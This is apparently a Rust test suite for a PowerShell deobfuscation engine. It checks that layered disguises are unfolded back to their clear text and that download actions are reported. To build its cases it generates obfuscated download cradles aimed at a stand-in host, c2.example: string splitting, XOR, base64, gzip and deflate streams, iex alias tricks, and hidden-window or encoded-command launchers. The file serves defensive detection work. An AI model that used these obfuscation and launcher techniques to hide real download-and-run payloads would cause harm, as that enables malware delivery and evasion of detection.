//! Obfuscations whose clear text is known: each must be recovered exactly.

#![allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "a test may panic")]

mod seed;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use flate2::Compression;
use flate2::write::{DeflateEncoder, GzEncoder};
use seed::{Seed, quoted};
use std::io::Write;
use strongroom_files::powershell::{unfold, unfold_command};
use strongroom_files::script::{Action, Budget, Unfolded};
use strongroom_model::Limits;

/// Returns an expression whose value is the text.
fn disguised(text: &str, seed: &mut Seed) -> String {
    let mark = format!("~{}~", seed.below(1_000_000));
    match seed.below(8) {
        0 => format!(
            "({})",
            seed.cut(text, 7)
                .iter()
                .map(|part| quoted(part))
                .collect::<Vec<_>>()
                .join("+")
        ),
        1 => {
            let parts = seed.cut(text, 7);
            let mut order: Vec<usize> = (0..parts.len()).collect();
            for i in (1..order.len()).rev() {
                order.swap(i, seed.below(i + 1));
            }
            let slots: String = (0..parts.len())
                .map(|index| format!("{{{}}}", order.iter().position(|&at| at == index).unwrap()))
                .collect();
            let list: Vec<String> = order.iter().map(|&at| quoted(&parts[at])).collect();
            format!("(\"{slots}\" -f {})", list.join(","))
        }
        2 => {
            let codes: Vec<String> = text.encode_utf16().map(|unit| unit.to_string()).collect();
            format!("(-join(({})|%{{[char]$_}}))", codes.join(","))
        }
        3 => {
            let key = 1 + seed.below(30) as u16;
            let codes: Vec<String> = text.encode_utf16().map(|unit| (unit ^ key).to_string()).collect();
            format!(
                "(({} | ForEach-Object {{ [char]($_ -bxor {key:#x}) }}) -join '')",
                codes.join(",")
            )
        }
        4 => format!("{}.Replace('{mark}','')", quoted(&seed.cut(text, 7).join(&mark))),
        5 => format!(
            "(({} -split '{mark}') -join '')",
            quoted(&seed.cut(text, 7).join(&mark))
        ),
        6 => {
            let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
            format!(
                "([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{}')))",
                STANDARD.encode(bytes)
            )
        }
        _ => {
            let back: String = text.chars().rev().collect();
            format!("(-join {}[-1..-{}])", quoted(&back), back.chars().count())
        }
    }
}

fn launched(code: &str, seed: &mut Seed) -> String {
    let iex = [
        "iex",
        "i`ex",
        "&('i'+'ex')",
        ".($PSHome[4]+$PSHome[30]+'x')",
        ".($ShellId[1]+$ShellId[13]+'x')",
        "&$env:ComSpec[4,15,25].Invoke",
    ];
    match seed.below(5) {
        0 => format!("{code} | iex"),
        1 => format!("& ([scriptblock]::Create({code}))"),
        2 => format!(".($env:ComSpec[4,15,25]-join'') ({code})"),
        n => format!("{} ({code})", iex[n % 5]),
    }
}

fn holds(unfolded: &Unfolded, text: &str) -> bool {
    unfolded.layers.iter().any(|layer| layer.text == text)
}

fn downloads(unfolded: &Unfolded) -> Vec<String> {
    let url = |action: &Action| match action {
        Action::Download { url, .. } => Some(url.to_string()),
        _ => None,
    };
    unfolded
        .effects
        .iter()
        .filter_map(|effect| url(&effect.action))
        .collect()
}

#[test]
fn every_stack_of_disguises_gives_back_its_clear_text() {
    let limits = Limits::default();
    let mut seed = Seed(7);
    for round in 0..300 {
        let url = format!("http://c2.example/{round}/it's");
        let clear = format!("Invoke-WebRequest {}", quoted(&url));
        let mut script = clear.clone();
        for _ in 0..=seed.below(2) {
            let hidden = disguised(&script, &mut seed);
            script = launched(&hidden, &mut seed);
        }
        let unfolded = unfold(&script, &mut Budget::new(&limits));
        assert!(holds(&unfolded, &clear), "round {round}: {script}\n{unfolded:#?}");
        assert!(
            downloads(&unfolded).contains(&url),
            "round {round}: {script}\n{unfolded:#?}"
        );
    }
}

#[test]
fn packed_streams_give_back_their_clear_text() {
    let clear = "Invoke-WebRequest 'http://c2.example/packed'";
    let mut gzip = GzEncoder::new(Vec::new(), Compression::default());
    gzip.write_all(clear.as_bytes()).unwrap();
    let mut deflate = DeflateEncoder::new(Vec::new(), Compression::default());
    deflate.write_all(clear.as_bytes()).unwrap();
    for (class, bytes) in [
        ("Gzip", gzip.finish().unwrap()),
        ("Deflate", deflate.finish().unwrap()),
    ] {
        let script = format!(
            "$m=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{}'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.{class}Stream($m,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
            STANDARD.encode(bytes)
        );
        let limits = Limits::default();
        let unfolded = unfold(&script, &mut Budget::new(&limits));
        assert!(holds(&unfolded, clear), "{unfolded:#?}");
        assert_eq!(downloads(&unfolded), ["http://c2.example/packed"]);
    }
}

#[test]
fn every_launcher_gives_back_its_clear_text() {
    let clear = "iwr http://c2.example/launched";
    let encoded = STANDARD.encode(
        clear
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect::<Vec<u8>>(),
    );
    let limits = Limits::default();
    for line in [
        format!("powershell -e {encoded}"),
        format!("powershell.exe -NoP -W Hidden -eNc {encoded}"),
        format!("pwsh /ec {encoded}"),
        format!(r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -encodedcommand {encoded}"#),
        format!("cmd /c powershell -enco {encoded}"),
        format!("cmd.exe /c start /b powershell -Encoded {encoded}"),
        format!("cmd /c p^ow^ersh^ell -e {encoded}"),
        format!("cmd /c \"set a=power&&set b=shell&&call %a%%b% -e {encoded}\""),
        format!("cmd /v:on /c \"set a=power&&!a!shell -e {encoded}\""),
        format!("cmd /c echo {clear} | powershell -"),
        format!("powershell -ExecutionPolicy Bypass -c \"{clear}\""),
        format!("powershell {clear}"),
        format!("powershell -c \"powershell -e {encoded}\""),
    ] {
        let unfolded = unfold_command(&line, &mut Budget::new(&limits)).expect("the line starts PowerShell");
        let found = unfolded.layers.iter().any(|layer| layer.text.trim() == clear);
        assert!(found, "{line}\n{unfolded:#?}");
        assert_eq!(downloads(&unfolded), ["http://c2.example/launched"], "{line}");
    }
    assert!(unfold_command("notepad.exe powershell.txt", &mut Budget::new(&limits)).is_none());
}

/// What a thread has that a program starts without asking for more, less what stands on it before.
const STACK: usize = 1 << 20;

/// Unfolds a script on a small stack; says whether there are gaps.
fn has_gaps(script: String) -> bool {
    let unfolds = move || {
        !unfold(&script, &mut Budget::new(&Limits::default()))
            .gaps
            .is_empty()
    };
    let thread = std::thread::Builder::new().stack_size(STACK);
    thread.spawn(unfolds).unwrap().join().unwrap()
}

#[test]
fn deep_and_endless_scripts_end_with_a_gap() {
    for script in [
        "(".repeat(50_000),
        "{".repeat(50_000),
        "$(".repeat(50_000),
        "@{a=".repeat(50_000),
        "[int]".repeat(50_000),
        "- ".repeat(50_000),
        "$a[".repeat(50_000),
        "a.b(".repeat(50_000),
        "$a.b(".repeat(50_000),
        "if(1){".repeat(50_000),
        "try{".repeat(50_000),
        "switch(1){1{".repeat(50_000),
        "function f{".repeat(50_000),
        "\"$(".repeat(50_000),
        "$a=".repeat(50_000),
        "x ,".repeat(50_000) + &",".repeat(50_000),
        "function f { f }; f".to_owned(),
        "function f { (& { if (1) { try { $(\"$(f)\") } finally { } } }) }; f".to_owned(),
        "$f = { 1 | % { & $f } }; & $f".to_owned(),
        "$f = { 'a'.ForEach({ $f.Invoke() }) }; $f.Invoke()".to_owned(),
        "$f = { [regex]::Replace('a', 'a', $f) }; & $f".to_owned(),
        "$a='x'; while (1) { $a += $a }".to_owned(),
        "$s='iex $s'; iex $s".to_owned(),
        "class A { [string] M() {".repeat(50_000),
        "enum E { A = (".repeat(50_000),
        "data {".repeat(50_000),
        "trap {".repeat(50_000),
        "class A { [string] M() { return $this.M() } }; [A]::new().M()".to_owned(),
        "class A { A() { [A]::new() } }; [A]::new()".to_owned(),
    ] {
        let shown = format!("{script:.60}");
        println!("{shown}");
        assert!(has_gaps(script), "{shown}");
    }
}

#[test]
fn long_chains_are_no_deep_trees() {
    for script in [
        format!("$a={}'x'", "'a'+".repeat(20_000)),
        format!("$a={}'x'", "1,".repeat(20_000)),
        format!("$a='x'{}", ".Trim()".repeat(20_000)),
        format!("$a=1{}", "-bxor 2*3+4".repeat(20_000)),
        format!("$a='x'{}", "|%{$_}".repeat(2_000)),
        format!("if(0){{}}{}", "elseif(0){}".repeat(2_000)),
    ] {
        let shown = format!("{script:.60}");
        assert!(!has_gaps(script), "{shown}");
    }
}

/// Values that are shared by reference may hold themselves.
#[test]
fn what_holds_itself_neither_panics_nor_goes_on_without_end() {
    let list = "$l=New-Object Collections.ArrayList; [void]$l.Add('a'); [void]$l.Add($l); ";
    let object = "$o=New-Object Net.WebClient; $o.ToString=$o; ";
    let array = "$l=@(1,2); $l[0]=$l; ";
    let uses = [
        "\"$l\"",
        "$l -join ','",
        "-join $l",
        "$l -contains 3",
        "$l -eq 'b'",
        "$l.AddRange($l)",
        "$l.ToArray()",
        "iwr $l",
        "[array]::IndexOf($l, 9)",
        "[array]::Reverse($l)",
        "$l | % { $_ }",
        "[string]$l",
        "$l+$l",
        "'{0}' -f $l",
        "$l.ToString()",
        "if ($l) { 1 }",
        "[byte[]]$l",
        "[char[]]$l",
        "$l.Contains($l)",
        "iex $l",
        "$l[0][0][0]",
        "$l.Length.Count",
        "$l | sort",
        "$l | out-string",
        "[bool]$l",
        "$l -replace 'a','b'",
        "$l.Foo",
        "$l[$l] = 1",
        "$l | group",
        "$l | group { $_ } -AsHashTable -AsString",
        "$l | measure -Sum",
        "$l | select -Unique",
        "$l | select Foo",
        "diff $l $l",
        "ConvertTo-Json $l -Compress -Depth 100",
        "[regex]::Match($l, $l)",
        "$l.PSObject.Properties",
    ];
    let mut scripts: Vec<String> = uses
        .iter()
        .flat_map(|one| [format!("{list}{one}"), format!("{array}{one}")])
        .collect();
    scripts.extend(
        uses.iter()
            .map(|one| format!("{object}{}", one.replace("$l", "$o"))),
    );
    let alone = [
        "$s=New-Object Text.StringBuilder 'a'; $s.Append($s); $s.Replace('a',$s); $s.AppendFormat('{0}',$s); \"$s\"",
        "$m=New-Object IO.MemoryStream; $m.Write($m,0,1); $m.CopyTo($m); $m.Read($m,0,1)",
        "$h=@{}; $h.a=$h; \"$h\"; $h.Values; $h.GetEnumerator(); $h+$h; $h -eq $h",
        "$b=[byte[]](1,2,3); [Buffer]::BlockCopy($b,0,$b,1,2); [array]::Copy($b,$b,2)",
        "$b=[byte[]](1,2,3); $m=New-Object IO.MemoryStream(,$b); $m.Read($b,0,3); $m.Write($b,0,3)",
        "$p=[PowerShell]::Create(); $p.AddArgument($p); $p.AddCommand($p); $p.Invoke()",
        "$c=New-Object Security.Cryptography.CryptoStream($x,$y,'Write'); $c.BaseStream=$c; $c.Transformation=$c; $c.Write([byte[]](1),0,1); $c.Close()",
        "$w=New-Object IO.StreamWriter($x); $w.BaseStream=$w; $w.Write('a')",
        "$p=New-Object Diagnostics.Process; $p.StartInfo=$p; $p.FileName=$p; $p.Start()",
        "$u=[uri]'http://c2.example/a'; $u.ToString=$u; $u.Host; \"$u\"",
        "$a=@(1); $b=@($a,$a); $a[0]=$b; $a -eq $b; $b -join $a; $a -like $b",
        "$a=@(1); $a[0]=,$a; if ($x) { $a[0]=$a } else { $a[0]=2 }; $a",
        "$x={ $x.Invoke($x) }; $x.Invoke($x)",
        "$l=New-Object Collections.ArrayList; 1..2000 | % { [void]$l.Add($l) }; \"$l\"",
        "$o=[pscustomobject]@{a=1}; $o.a=$o; \"$o\"; ConvertTo-Json $o -Compress -Depth 100; $o.a.a.a",
        "$h=@{}; $h.e=$h; 1 | select $h; 1 | sort $h; 1 | group $h",
        "class A { $x = [A]::new() }; [A]::new()",
        "class A { static $x = [A]::x }; [A]::x = [A]; [A]::x::x",
        "class A : B { } class B : A { }; [A]::new().M()",
        "class W : Net.WebClient { }; $w=[W]::new(); $w.'base:'=$w; $w.Foo; $w.Foo()",
        "class A { [string] M() { return $this.M() } }; $a=[A]::new(); $a | Add-Member ScriptMethod N { $this.N() }; $a.N()",
        "enum E { A }; $e=[E]::A; $e.value__=$e; $e.ToString=$e; \"$e\"; $e -eq $e; $h=@{}; $h[$e]=$h; $h[$e]",
        "$o=New-Object psobject; $o | Add-Member ScriptMethod M { $this.M() }; $o.M()",
        "trap { throw $_ } throw 'a'",
    ];
    scripts.extend(alone.iter().map(|one| (*one).to_owned()));
    for script in scripts {
        println!("{script}");
        has_gaps(script);
    }
}

#[test]
fn values_put_into_each_other_without_end_are_let_go() {
    for script in [
        "$a='x'; for ($i=0; $i -lt 60000; $i++) { $a=,$a }; $a -eq 'x'; $a -contains 'x'; $b=$a; \"$a\"; $a[0] -eq $a",
        "$h='x'; for ($i=0; $i -lt 60000; $i++) { $h=@{a=$h} }; \"$h\"",
        "$l='x'; for ($i=0; $i -lt 40000; $i++) { $n=New-Object Collections.ArrayList; [void]$n.Add($l); $l=$n }; \"$l\"",
        "$o='x'; for ($i=0; $i -lt 40000; $i++) { $n=New-Object Net.WebClient; $n.Next=$o; $o=$n }",
    ] {
        has_gaps(script.to_owned());
    }
}

#[test]
fn no_damage_to_a_script_makes_the_engine_panic() {
    let limits = Limits {
        steps: 20_000,
        value_bytes: 1 << 18,
        ..Limits::default()
    };
    let mut seed = Seed(11);
    let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/golden/powershell");
    let mut paths: Vec<_> = std::fs::read_dir(folder)
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .collect();
    paths.sort();
    for path in paths {
        let source: Vec<char> = std::fs::read_to_string(&path).unwrap().chars().collect();
        for _ in 0..60 {
            let mut damaged = source.clone();
            for _ in 0..=seed.below(6) {
                let at = seed.below(damaged.len());
                let sign = "'\"`$({[])};|&@-+.,:%é\n 0"[..]
                    .chars()
                    .nth(seed.below(23))
                    .unwrap();
                if seed.below(2) == 0 {
                    damaged[at] = sign
                } else {
                    damaged.insert(at, sign)
                }
            }
            let damaged: String = damaged.into_iter().collect();
            let unfolded = unfold(&damaged, &mut Budget::new(&limits));
            assert!(unfolded.layers.len() <= limits.layers as usize);
            let _ = unfold_command(&damaged, &mut Budget::new(&limits));
        }
    }
}
